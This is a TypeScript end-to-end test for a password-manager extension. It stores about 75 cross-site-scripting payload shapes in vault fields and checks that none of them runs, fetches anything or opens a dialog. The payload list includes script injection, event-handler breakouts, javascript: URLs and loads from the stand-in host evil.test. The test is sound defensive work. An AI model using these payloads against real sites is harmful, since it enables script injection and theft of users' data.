/** S-79: three hundred texts that want to be code, through saving and importing, on every screen that shows them. */
import type { ItemEdit } from '../../extension/shared/api.ts';
import { ALL, call, login, makeVault } from '../e2e/support/calls.ts';
import { expect, test } from './web.ts';

const RUN = 'globalThis.ran=1';
/** Ways to become code, with `X` for what is to run. */
const SHAPES = [
  '<script>X</script>',
  '"><script>X</script>',
  "'><script>X</script>",
  '</title><script>X</script>',
  '</textarea><script>X</script>',
  '--><script>X</script>',
  ']]><script>X</script>',
  '<ScRiPt>X</sCrIpT>',
  '<script\n>X</script\n>',
  '<script src="data:text/javascript,X"></script>',
  '<script src=//evil.test/x.js></script>',
  '<script type="module">X</script>',
  '<svg><script>X</script></svg>',
  '<svg/onload="X">',
  '<svg><animate onbegin="X" attributeName="x" dur="1s">',
  '<svg><use href="data:image/svg+xml,<svg onload=X>#a"/></svg>',
  '<math><mi//xlink:href="javascript:X">',
  '<img src=x onerror="X">',
  '<img src=x onerror=X//',
  '" onerror="X" src=x "',
  '" onfocus="X" autofocus x="',
  "' onmouseover='X' '",
  '<img src="https://evil.test/pixel">',
  '<img srcset="https://evil.test/pixel 1x">',
  '<input onfocus="X" autofocus>',
  '<body onload="X">',
  '<body onpageshow="X">',
  '<details open ontoggle="X">',
  '<video><source onerror="X"></video>',
  '<audio src onerror="X">',
  '<object data="javascript:X"></object>',
  '<embed src="javascript:X">',
  '<iframe src="javascript:X"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<iframe src="https://evil.test/"></iframe>',
  '<form action="https://evil.test/"><button autofocus>go</button></form>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<link rel="prefetch" href="https://evil.test/x">',
  '<link rel="preload" as="script" href="https://evil.test/x.js">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>*{background:url(https://evil.test/x)}</style>',
  '" style="background:url(https://evil.test/x)"',
  '<a href="javascript:X">click</a>',
  '<a href="data:text/html,<script>X</script>">click</a>',
  '<template shadowrootmode="open"><script>X</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=X>">',
  '<select><noembed></select><script>X</script>',
  '<dialog open><img src=x onerror="X"></dialog>',
  '<marquee onstart="X">m</marquee>',
  '<portal src="https://evil.test/">',
  '<object type="text/html" data="https://evil.test/"></object>',
  '<?xml-stylesheet href="javascript:X"?>',
  '<!--[if gte IE 4]><script>X</script><![endif]-->',
  'javascript:X',
  'JaVaScRiPt:X',
  'java\tscript:X',
  ' javascript:X',
  'data:text/html,<script>X</script>',
  'vbscript:X',
  'blob:https://evil.test/x',
  '{{constructor.constructor("X")()}}',
  '#{X}',
  '`+X+`',
  "';X;//",
  '";X;//',
  '\\";X;//',
  '\u2028X\u2029',
  '__proto__',
  'constructor',
  '{"__proto__":{"ran":1}}',
  'toString',
  '\u202egnp.exe<img src=x onerror=X>',
  '<img src=x onerror=X>\u0000',
];
const NAMES: readonly (keyof ItemEdit & ('name' | 'username' | 'password' | 'notes'))[] = ['name', 'username', 'password', 'notes'];
const payloads = SHAPES.map((shape) => shape.replaceAll('X', RUN));

/** Each payload in four places of its own: all of them together are the corpus. */
const corpus = payloads.flatMap((payload, at) =>
  NAMES.map((place) =>
    login(`item ${at} ${place}`, {
      [place]: payload,
      websites:
        place === 'notes'
          ? [{ url: /^[a-z ]+\s?script:|^data:|^blob:/i.test(payload) ? payload : 'https://bank.test/', match: 'host' }]
          : [],
      custom: [{ name: payload, kind: 'text', value: payload }],
      tags: [payload.slice(0, 60)],
      totp: '',
    }),
  ),
);

test('S-79: nothing of them runs, is fetched, or opens a dialog, wherever they are shown', async ({ sesame, web }) => {
  test.setTimeout(180_000);
  expect(corpus.length).toBeGreaterThanOrEqual(300);
  const popup = await sesame.openPopup();
  const dialogs: string[] = [];
  popup.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const asked: string[] = [];
  sesame.context.on('request', (request) => asked.push(request.url()));
  web.serve(() => '');
  await makeVault(popup);
  // Half of them as a person saves, half as a file of another program brings them.
  for (const item of corpus.slice(0, 40))
    await call(popup, 'save', item).catch((failure: Error) => expect(failure.message).toBe('invalid'));
  const report = await call(popup, 'importItems', { items: corpus.slice(40) });
  expect(report.added + report.merged + report.skipped).toBe(corpus.length - 40);
  await popup.goto('about:blank');
  await popup.goto(sesame.url('popup.html'));

  // Every row of the list, as it scrolls by.
  const list = popup.locator('.virtual-row').first();
  await expect(list).toBeVisible();
  const { total, rows } = await call(popup, 'list', ALL);
  expect(total).toBeGreaterThanOrEqual(290);
  await popup.evaluate(async () => {
    const box = [...document.querySelectorAll<HTMLElement>('[data-scroll]')].find((one) => one.scrollHeight > one.clientHeight);
    for (let at = 0; box && at <= box.scrollHeight; at += 400) {
      box.scrollTop = at;
      await new Promise(requestAnimationFrame);
    }
  });
  // The pages, the editors and the histories of one item for each payload, by way of the search.
  const search = popup.getByRole('searchbox');
  for (const row of rows.filter((_, at) => at % 6 === 0)) {
    await search.fill(row.name.slice(0, 80));
    await expect.poll(() => popup.locator('.virtual-row').count()).toBeGreaterThan(0);
    await search.press('Enter');
    await expect(popup.getByRole('button', { name: 'Edit', exact: true })).toBeVisible();
    const show = popup.getByRole('button', { name: 'Show password' });
    if ((await show.count()) > 0) await show.first().click();
    await popup.keyboard.press('Escape');
    await expect(search).toBeVisible();
  }
  await search.fill('');
  await popup.getByRole('button', { name: 'Password health' }).click();
  await expect(popup.getByRole('heading', { name: 'Password health' })).toBeVisible();

  expect(await popup.evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(await (await sesame.worker()).evaluate(() => 'ran' in globalThis)).toBe(false);
  expect(dialogs).toEqual([]);
  expect(asked.filter((url) => !url.startsWith(sesame.url('')) && url !== 'about:blank')).toEqual([]);
  expect(web.asked).toEqual([]);
  expect(popup.url().startsWith(sesame.url('popup.html'))).toBe(true);
  expect(
    sesame.context
      .pages()
      .map((one) => one.url())
      .filter((url) => /evil|javascript:|data:/.test(url)),
  ).toEqual([]);
});
